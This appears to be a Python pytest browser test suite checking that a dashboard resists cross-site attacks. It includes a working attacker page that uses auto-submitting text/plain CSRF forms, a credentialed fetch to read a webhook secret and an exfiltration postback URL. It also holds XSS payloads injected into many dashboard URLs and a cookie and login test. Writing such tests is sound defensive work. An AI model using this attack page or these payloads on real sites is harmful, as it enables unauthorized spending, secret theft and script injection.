"""A browser as the attacker's tool: a logged-in dashboard user (who has also typed the account's API
password into the browser's Basic prompt once, so the browser holds it too) opens a page on another site.
That page cannot make the user spend, rotate or read anything, cannot frame the dashboard, and no dashboard
URL it links to runs its script."""

from __future__ import annotations

import json
from urllib.parse import quote

import httpx
import pytest
from starlette.applications import Starlette
from starlette.responses import HTMLResponse
from starlette.routing import Route

from tests.browser.conftest import log_in
from tests.fakes.loopback import LoopbackServer

pytestmark = pytest.mark.e2e
LLM = "/v3/ai_optimization/chat_gpt/llm_responses"
XSS = "<img src=x onerror=alert(document.domain)>"


def attacker_page(target: str, steal: str) -> str:
    """Forms that auto-submit (text/plain passes for a JSON body), a credentialed fetch, a frame."""
    task = json.dumps([{"user_prompt": "spend", "model_name": "gpt-4.1-mini", "postback_url": steal}])
    name, value = task[:-2] + ', "x": "', '"}]'  # text/plain sends "name=value": JSON once joined
    return f"""<!doctype html><html><body>
<iframe name="post" id="post"></iframe><iframe name="rotate" id="rotate"></iframe>
<iframe id="framed" src="{target}/dashboard"></iframe>
<form id="f1" method="POST" action="{target}{LLM}/task_post" enctype="text/plain" target="post">
<input type="hidden" name='{name}' value='{value}'></form>
<form id="f2" method="POST" action="{target}/v3/appendix/webhook_secret/rotate" target="rotate"></form>
<script>
document.getElementById("f1").submit();
document.getElementById("f2").submit();
window.stolen = "pending";
fetch("{target}/v3/appendix/webhook_secret", {{credentials: "include"}})
  .then(r => r.text()).then(t => {{ window.stolen = t; }}).catch(() => {{ window.stolen = "blocked"; }});
fetch("{target}{LLM}/live", {{method: "POST", mode: "no-cors", credentials: "include", body: '{task}'}});
</script></body></html>"""


@pytest.fixture
def attacker(served):
    srv, _ = served
    holder: dict[str, str] = {}

    async def page(request):
        return HTMLResponse(holder["html"])

    server = LoopbackServer(Starlette(routes=[Route("/", page)]))
    # "localhost" is another site than "127.0.0.1", where the dashboard is served
    holder["html"] = attacker_page(srv.url, f"http://localhost:{server.port}/steal")
    yield f"http://localhost:{server.port}/"
    server.stop()


async def test_another_site_cannot_spend_rotate_read_or_frame(served, browser, attacker, screenshot):
    srv, creds = served
    api = httpx.AsyncClient(base_url=srv.url, auth=(creds["login"], creds["password"]))

    async def result(path: str):
        return (await api.get(path)).json()["tasks"][0]["result"]

    secret = await result("/v3/appendix/webhook_secret")
    balance = (await result("/v3/appendix/user_data"))[0]["money"]["balance"]
    context = await browser.new_context(
        http_credentials={"username": creds["login"], "password": creds["password"]}
    )
    page = await context.new_page()
    page.set_default_timeout(15_000)
    # the user once used the API in this browser: it now sends the Basic credentials by itself
    for path in (f"{LLM}/models", "/v3/appendix/user_data"):
        assert (await page.goto(srv.url + path)).status == 200
    await log_in(page, srv.url, creds["login"], creds["password"])

    await page.goto(attacker)
    await page.wait_for_function("window.stolen !== 'pending'")
    for name in ("post", "rotate"):
        frame = page.frame(name=name)
        await frame.wait_for_load_state()
        assert "from another site" in await frame.content()  # refused, 40100
    assert await page.evaluate("window.stolen") == "blocked"  # no CORS: the answer is never readable
    framed = page.frame_locator("#framed")
    assert await framed.locator("nav").count() == 0  # the dashboard refuses to be framed
    await screenshot(page, "attacker")

    assert (await result("/v3/appendix/user_data"))[0]["money"]["balance"] == balance  # nothing spent
    assert await result("/v3/appendix/webhook_secret") == secret  # nothing rotated
    assert await result(f"{LLM}/tasks_ready") == []  # no task posted
    await api.aclose()
    await context.close()


@pytest.mark.parametrize(
    "path",
    [
        f"/dashboard?after={quote(XSS)}|x",
        f"/dashboard/brands?by={quote(XSS)}",
        f"/dashboard/brands.json?by={quote(XSS)}",
        f"/dashboard?tag={quote(XSS)}",
        f"/dashboard/answer/{quote(XSS)}",
        f"/dashboard/sources?engine={quote(XSS)}",
        f"/dashboard/login?next={quote('javascript:alert(1)')}",
        f"/dashboard/tasks.{quote(XSS)}",
        f"/dashboard/matrix?project={quote(XSS)}",
        f"/dashboard/tasks?brand={quote(XSS)}&prompt=abc",
        f"/dashboard/sources?brand={quote(XSS)}",
        f"/dashboard/changes?week={quote(XSS)}&brand=x",
        f"/dashboard/overview?from={quote(XSS)}",
    ],
)
async def test_no_dashboard_url_runs_injected_script(served, browser_page, path):
    srv, _ = served
    dialogs: list[str] = []
    browser_page.on("dialog", lambda d: dialogs.append(d.message))
    errors: list[str] = []
    browser_page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    response = await browser_page.goto(srv.url + path)
    await browser_page.wait_for_timeout(300)
    assert dialogs == []
    assert "<img src=x" not in await response.text()
    assert "script-src 'self'" in response.headers["content-security-policy"]
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["x-content-type-options"] == "nosniff"
    if path.startswith("/dashboard/login"):
        action = await browser_page.locator("input[name=next]").get_attribute("value")
        assert action == "/dashboard"  # a login goes on to the dashboard only


async def test_the_login_form_logout_and_the_cookie(served, browser, screenshot):
    srv, creds = served
    context = await browser.new_context()
    page = await context.new_page()
    await page.goto(f"{srv.url}/dashboard/brands")
    await page.fill("input[name=login]", creds["login"])
    await page.fill("input[name=password]", "wrong")
    await page.click("button[type=submit]")
    assert "Wrong login or password" in await page.locator("#login-error").inner_text()
    await screenshot(page, "login-refused")
    await page.fill("input[name=login]", creds["login"])
    await page.fill("input[name=password]", creds["password"])
    await page.click("button[type=submit]")
    await page.wait_for_url("**/dashboard/brands")  # back where the user was going
    cookie = next(c for c in await context.cookies() if c["name"] == "llmr_dashboard")
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and cookie["path"] == "/dashboard"
    api = await page.goto(f"{srv.url}/v3/appendix/user_data")  # the cookie is never an API credential
    assert api.status == 401
    await page.goto(f"{srv.url}/dashboard")
    await page.click("text=Log out")
    await page.wait_for_url("**/dashboard/login")
    await page.goto(f"{srv.url}/dashboard")
    await page.wait_for_url("**/dashboard/login**")
    await context.close()
